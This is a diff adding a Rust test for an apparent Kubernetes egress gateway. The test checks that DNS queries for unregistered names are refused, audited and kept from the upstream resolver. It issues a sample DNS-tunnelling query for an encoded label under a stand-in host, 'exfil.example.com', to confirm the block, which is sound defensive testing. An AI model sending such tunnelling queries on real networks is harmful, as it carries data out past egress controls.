@@ -169,3 +169,38 @@ fn udp_elsewhere_and_raw_packets_never_leave_the_pod() {
     drop(s.gw);
     s.topo.teardown();
 }
+
+/// Under REGISTRY_ONLY, query names cannot carry data out: a name neither
+/// registered nor the cluster's own gets NXDOMAIN and an audit line, and the
+/// upstream resolver (beyond the routing node) never sees it. The cluster's
+/// domain is still forwarded; `--dns-unknown forward` forwards everything.
+#[test]
+fn unregistered_names_never_reach_the_upstream_resolver() {
+    let s = setup(&[]);
+    let tunnel = "agvsbg8gd29ybgq.exfil.example.com";
+    let (out, err) = dig(&s.topo.pod_a, &["+short", tunnel, "A"]);
+    assert!(out.trim().is_empty(), "no answer for the unregistered name: {out}{err}");
+    let (full, _) = dig(&s.topo.pod_a, &[tunnel, "A"]);
+    assert!(full.contains("status: NXDOMAIN"), "{full}");
+    let (_, _) = dig(&s.topo.pod_a, &["kube-dns.kube-system.svc.cluster.local", "A"]);
+    let (registered, _) = dig(&s.topo.pod_a, &["+short", "learned.test", "A"]);
+    assert_eq!(registered.trim(), "203.0.113.13", "a registered name still resolves");
+    let line = s.gw.wait_json_line("dns", "the refused query", |v| v["name"] == tunnel);
+    assert_eq!((line["decision"].as_str(), line["reason"].as_str(), line["workload"]["namespace"].as_str()), (Some("deny"), Some("not-registered"), Some("default")), "{line}");
+    assert_eq!(line["src"].as_str(), Some(s.topo.pod_a.v4.to_string().as_str()), "{line}");
+    let upstream = gateway_tests::wait::poll(Duration::from_secs(5), Duration::from_millis(50), || {
+        let log = s.dns.log_text();
+        log.contains("kube-dns.kube-system.svc.cluster.local").then_some(log)
+    })
+    .expect("the cluster's own domain is forwarded upstream");
+    assert!(!upstream.contains("exfil.example.com"), "the upstream resolver must never see the unregistered name:\n{upstream}");
+    drop(s.gw);
+    s.topo.teardown();
+
+    // Asked for explicitly, everything is forwarded.
+    let s = setup(&["--dns-unknown", "forward"]);
+    let (out, _) = dig(&s.topo.pod_a, &["+short", "other.test", "A"]);
+    assert_eq!(out.trim(), "203.0.113.12", "forwarded when asked for");
+    drop(s.gw);
+    s.topo.teardown();
+}
